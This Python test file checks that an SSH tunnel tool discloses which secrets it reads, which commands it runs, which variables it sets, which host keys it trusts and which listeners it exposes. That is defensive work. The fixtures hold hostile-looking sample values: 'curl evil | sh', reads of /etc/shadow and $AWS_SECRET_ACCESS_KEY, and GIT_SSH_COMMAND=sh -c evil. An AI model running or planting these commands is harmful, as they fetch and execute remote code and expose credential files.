"""What a topology does in the user's name, said before anything is opened."""

from orchestra.model.address import Endpoint
from orchestra.model.plan import Bind, Dial, Plan, PlannedListen, PlannedSession, PlannedTunnel
from orchestra.model.topology import (
    CheckRef,
    CommandRef,
    ConfigSettings,
    Host,
    SecretRef,
    Server,
    SshSettings,
    Topology,
    TransportRef,
    Tunnel,
)
from orchestra.planning.disclosure import Disclosure, disclosures


def said(*tunnels: PlannedTunnel, transport: TransportRef | None = None, **ssh: object) -> list[tuple[str, str, str]]:
    server = Server(ssh=SshSettings(**ssh), transport=transport or TransportRef())  # type: ignore[arg-type]
    hosts = {name: Host(name=name, kind="server", server=server) for name in ("gw", "unused")}
    dial = Dial(by="laptop", host="gw", port=22)
    sessions = tuple(PlannedSession(id=id_, server="gw", via=None, dial=dial, depth=1) for id_ in ("gw", "gw~2"))
    plan = Plan(topology="t", client="laptop", sessions=sessions, tunnels=tunnels)
    found = disclosures(plan, Topology(name="t", file="t", hosts=hosts))
    assert all(isinstance(each, Disclosure) for each in found)
    return [(each.deed, each.what, each.why) for each in found]


def tunnel(listen: PlannedListen | None = None, **spec: object) -> PlannedTunnel:
    wanted = Tunnel(name="web", listen=Endpoint("localhost", 80), **spec)  # type: ignore[arg-type]
    return PlannedTunnel(name="web", kind="tcp", verdict="reachable", spec=wanted, listen=listen)


def test_a_plain_file_does_nothing_else() -> None:
    inside = PlannedListen(at="laptop", session=None, binds=(Bind(host="127.0.0.1", port=80),))
    assert said(tunnel(inside), host_key_policy="strict", identity=("/k",), agent="/a") == []


def test_secrets_are_named_with_what_they_are_for() -> None:
    found = said(
        password=SecretRef(kind="env", value="AWS_SECRET_ACCESS_KEY"),
        passphrase=SecretRef(kind="file", value="/etc/shadow"),
        private_key=SecretRef(kind="command", value=("sh", "-c", "curl evil | sh")),
    )
    assert found == [
        ("runs", "sh -c 'curl evil | sh'", "the private key for gw"),
        ("reads", "$AWS_SECRET_ACCESS_KEY", "the password for gw"),
        ("reads", "/etc/shadow", "the passphrase for gw"),
    ]


def test_variables_are_told_where_a_command_gets_them() -> None:
    spec = Tunnel(name="web", env={"GIT_SSH_COMMAND": "sh -c evil", "WEB_URL": "http://{host}:{port}"})
    plan = Plan(
        topology="t",
        client="laptop",
        tunnels=(PlannedTunnel(name="web", kind="tcp", verdict="reachable", spec=spec),),
    )
    topology = Topology(name="t", file="t")
    assert disclosures(plan, topology) == ()
    assert [(each.deed, each.what) for each in disclosures(plan, topology, environment=True)] == [
        ("sets", "GIT_SSH_COMMAND=sh -c evil"),
        ("sets", "WEB_URL=http://{host}:{port}"),
    ]


def test_secrets_of_plugins_are_found_wherever_they_stand() -> None:
    transport = TransportRef(type="vault", options={"a": {"b": [SecretRef(kind="keyring", value="x")]}})
    check = CheckRef(type="login", options={"password": SecretRef(kind="env", value="PW")})
    spec = {"options": {"token": SecretRef(kind="command", value=("id",))}, "check": check}
    assert said(tunnel(**spec), transport=transport) == [
        ("runs", "id", "the tunnel web"),
        ("reads", "keyring x", "the transport to gw"),
        ("reads", "$PW", "the tunnel web"),
    ]


def test_commands_of_ssh_config_that_may_run() -> None:
    command = ConfigSettings(known_hosts_command=("/usr/bin/keys", "%H %t"), allow_exec=True)
    assert said(config=command) == [("runs", "/usr/bin/keys '%H %t'", "KnownHostsCommand for gw")]
    assert said(config=ConfigSettings(known_hosts_command=("/usr/bin/keys",))) == []


def test_host_keys_that_nobody_looks_at() -> None:
    assert said(host_key_policy="accept-new") == [("trusts", "the first host key that it shows, unseen", "gw")]
    assert said(host_key_policy="accept-new", host_key=("ssh-ed25519 AAAA",)) == []
    by_user = ConfigSettings(origins={"host_key_policy": "/home/ann/.ssh/config:1"})
    assert said(host_key_policy="accept-new", config=by_user) == []


def test_what_others_can_connect_to() -> None:
    listen = PlannedListen(at="gw", session="gw", binds=(Bind(host="*", port=80),), exposed=True)
    assert said(tunnel(listen)) == [("listens", "*:80 of gw", "the tunnel web")]


def test_the_program_of_a_check_is_told_with_the_variables_that_it_is_given() -> None:
    options = {"run": CommandRef(argv=("pg_isready", "-d", "a b"))}
    assert said(tunnel(check=CheckRef(type="command", options=options), env={"X": "{port}"})) == [
        ("runs", "pg_isready -d 'a b'", "the tunnel web"),
        ("sets", "X={port}", "the tunnel web"),
    ]
